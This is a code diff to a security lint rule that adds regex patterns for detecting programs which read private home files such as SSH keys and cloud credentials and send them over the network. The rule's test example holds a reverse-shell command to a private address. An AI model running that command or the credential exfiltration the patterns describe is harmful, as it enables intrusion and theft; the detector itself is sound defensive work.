@@ -67,6 +67,11 @@ HARM = {
 }
 """What a command does, and the RE2 pattern of those that do."""
 
+TAKEN = r"[\"'](?:~/)?\.(?:ssh|aws|netrc|gnupg|kube|docker)\b[^\"'\n]*[\"']|[\"'][^\"'\n]*\bid_(?:rsa|ed25519)[\"']"
+AT_HOME = r"\bPath\.home\(\)|\bexpanduser\b|[\"']HOME[\"']|\bhomedir\(\)"
+POSTED = r"\burlopen\([^\n]*\bdata\s*=|\b(?:requests|httpx|session|client|axios)\.(?:post|put)\(|\.sendall\(|\bfetch\([^\n]*method"
+"""Of a program that sends private files away: which, where from, and how."""
+
 
 def check(doc: Doc, _view: View) -> Iterator[Hit]:
     """Report them in code and prose; where the line warns of the command it is a hint."""
@@ -79,6 +84,16 @@ def check(doc: Doc, _view: View) -> Iterator[Hit]:
             if message == SENDS and _is_own(text[start : end if end >= 0 else None][:4000]):
                 severity = Severity.WARNING.at_most(severity)
             yield Hit(message=f"this {message}", line=doc.line_at(start), severity=severity)
+    yield from _bundled(doc)
+
+
+def _bundled(doc: Doc) -> Iterator[Hit]:
+    """Programs that take private files of the home and send something, on lines of their own."""
+    for fence in doc.snippets:
+        taken = next(scan.find(TAKEN, fence.text, most=1), None)
+        if taken and scan.has(AT_HOME, fence.text) and scan.has(POSTED, fence.text):
+            line = fence.line + fence.text.count("\n", 0, taken.start) + 1
+            yield Hit(message=f"this {SENDS}", line=line)
 
 
 def _is_own(line: str) -> bool:
@@ -107,7 +122,7 @@ RULE = Rule(
     fix="Name the exact directory of the example, or take the command out.",
     document=check,
     reads=Reads.TEXT,
-    trigger=scan.trigger(*("(?m)" + pattern for pattern in HARM.values())),
+    trigger=scan.trigger(*("(?m)" + pattern for pattern in HARM.values()), TAKEN),
     is_security=True,
     fails=(
         Example(body="```bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```", at="bash -i"),
